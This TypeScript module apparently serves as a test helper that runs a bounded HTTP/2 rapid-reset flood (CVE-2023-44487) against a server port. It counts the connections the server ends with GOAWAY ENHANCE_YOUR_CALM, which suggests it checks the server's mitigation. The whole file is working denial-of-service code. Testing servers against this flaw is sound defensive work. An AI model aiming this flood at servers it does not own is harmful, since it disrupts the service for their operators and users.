import { ERROR, RawH2, headers, requestFields, rstStream } from './lib/h2-frames.js';

export interface FloodResult {
  /** Streams opened and reset. */
  readonly streams: number;
  readonly connections: number;
  /** Connections the server ended with GOAWAY ENHANCE_YOUR_CALM. */
  readonly calmed: number;
}

/**
 * A rapid-reset flood (CVE-2023-44487) from one client, bounded in count: streams opened and reset
 * at once, `burst` per write, on one connection after another until `total` streams have been sent or
 * `deadlineMs` passed. Each connection goes on until the server closes it.
 */
export async function rapidResetFlood(
  port: number,
  total: number,
  deadlineMs: number,
  burst = 20,
): Promise<FloodResult> {
  const stop = Date.now() + deadlineMs;
  let streams = 0;
  let connections = 0;
  let calmed = 0;
  while (streams < total && Date.now() < stop) {
    const client = new RawH2(port);
    connections++;
    let id = 1;
    while (!client.socket.destroyed && streams < total && Date.now() < stop && id < 2 ** 30) {
      const frames: Buffer[] = [];
      for (let i = 0; i < burst; i++, id += 2, streams++) {
        frames.push(headers(id, requestFields(`/flood/${id}`)), rstStream(id, ERROR.CANCEL));
      }
      client.send(Buffer.concat(frames));
      // Let the socket flush and the server's frames in, as a real attacker's loop does.
      await new Promise<void>((resolve) => setImmediate(resolve));
      if (client.goaway()) break;
    }
    if (client.goaway()?.code === ERROR.ENHANCE_YOUR_CALM) calmed++;
    client.destroy();
  }
  return { streams, connections, calmed };
}
